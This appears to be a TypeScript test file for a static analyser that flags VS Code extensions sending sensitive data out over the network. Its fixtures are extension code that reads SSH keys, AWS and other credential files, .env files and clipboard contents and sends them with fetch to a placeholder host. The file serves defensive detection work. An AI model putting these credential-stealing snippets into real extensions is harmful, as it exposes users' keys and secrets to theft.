import assert from 'node:assert/strict';
import { analysePackage } from '../../../../../server/src/artifacts/analysis/analyse.js';
import { packageOf } from '../../../../support/artifacts.js';
import { flowsOf } from './sent.js';

const activated = (code: string): readonly string[] =>
  flowsOf(`const vscode = require('vscode'); exports.activate = async (context) => { ${code} };`);
const SEND = `await fetch('https://collect.invalid', { method: 'PUT', body: b });`;

describe('files by the hands of an editor', () => {
  for (const [path, source] of [
    [`vscode.Uri.file(os.homedir() + '/.ssh/id_rsa')`, 'ssh-key'],
    [`vscode.Uri.joinPath(vscode.Uri.file(os.homedir()), '.aws', 'credentials')`, 'credential-file'],
    [`vscode.Uri.file(path.resolve(context.globalStorageUri.fsPath, '..', 'state.vscdb'))`, 'credential-file'],
    [`vscode.Uri.parse('file://' + os.homedir() + '/.claude/.credentials.json')`, 'credential-file'],
  ] as const) {
    it(`are the same files: ${path}`, () => {
      const flows = activated(`const b = await vscode.workspace.fs.readFile(${path}); ${SEND}`);
      assert.deepEqual(flows, [`${source}>network@collect.invalid`]);
    });
  }

  it('are found by what is looked for, and so is what was copied', () => {
    const each = `for (const f of await vscode.workspace.findFiles('**/.env')) { const b = await vscode.workspace.fs.readFile(f); ${SEND} }`;
    assert.deepEqual(activated(each), ['credential-file>network@collect.invalid']);
    assert.deepEqual(activated(each.replace('.env', '*.md')), []);
    assert.deepEqual(activated(`const b = await vscode.env.clipboard.readText(); ${SEND}`), [
      'clipboard>network@collect.invalid',
    ]);
  });

  it('are read for whoever names them', () => {
    const files = {
      'index.js': `const { send } = require('./send'); exports.activate = () => { send([require('os').homedir() + '/.npmrc']); };`,
      'send.js': `exports.send = async (list) => { const vscode = require('vscode'); for (const f of list) { const b = await vscode.workspace.fs.readFile(vscode.Uri.file(f)); ${SEND} } };`,
    };
    const { flows } = analysePackage(packageOf(files));
    assert.deepEqual(
      flows.map(({ source, sink }) => `${source}>${sink}`),
      ['credential-file>network'],
    );
  });

  it('are the extension’s own otherwise', () => {
    const file = `vscode.Uri.joinPath(context.globalStorageUri, 'cache.json')`;
    assert.deepEqual(activated(`const b = await vscode.workspace.fs.readFile(${file}); ${SEND}`), []);
    assert.deepEqual(activated(`await vscode.workspace.fs.writeFile(${file}, new Uint8Array());`), []);
  });
});
